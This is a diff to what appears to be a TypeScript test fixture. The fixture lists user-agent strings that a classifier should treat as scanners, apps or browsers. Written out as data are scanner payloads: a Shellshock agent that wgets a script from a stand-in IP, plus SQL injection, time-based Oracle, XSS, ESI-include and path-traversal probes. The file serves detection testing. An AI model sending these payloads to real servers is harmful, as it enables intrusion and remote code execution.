@@ -338,6 +338,53 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
     { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
+    // SQL, script, ESI and path-climbing probes after a whole browser agent (Yauaa's hacker tests print them)
+    {
+      ua:
+        "Mozilla/5.0 (Macintosh; U; PPC Mac OS X Mach-O; en-US; rv:1.7.12) Gecko/20050915 Firefox/1.0.7) ORDER BY 1-- WiRj",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Macintosh; U; PPC Mac OS X Mach-O; en-US; rv:1.7.12) Gecko/20050915 Firefox/1.0.7' WHERE 8348=8348 OR NOT 7373=6149-- QoIW",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.103 Safari/537.36'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),12)||'",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua: "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1';alert(/XSS/);//",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua:
+        '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.103 Safari/537.36<esi:include src=\\""http://bxss.me/rpb.png\\""/>"',
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua:
+        "./../Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Safari/537.36",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.83 Safari/537.36/../xyz",
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua: "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; {}; SV1)",
+      token: "unknown",
+      category: "other",
+    },
   ],
 };
 
@@ -370,6 +417,9 @@ export const PEOPLE_KINDS: Record<string, string[]> = {
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
     "Mozilla/5.0 (Linux; Android 7.0; SM-G930F Build/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/64.0.3282.137 Mobile Safari/537.36 Onefootball/Android/9.10.6",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+  ],
+  "quick apps whose agent carries JSON with quotes and braces (no payload; Yauaa's test agents)": [
+    'Mozilla/5.0 (Linux; Android 10; ELE-L29 Build/HUAWEIELE-L29; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.134 Mobile Safari/537.36 hap/1110/huawei com.huawei.fastapp/13.5.1.300 fruitcrush.HUAWEI/1.0.4 ({"packageName":"fastappList","type":"other","extra":"{}"})',
   ],
   "media apps by product name alone": [
     "Barca/2.8.2",
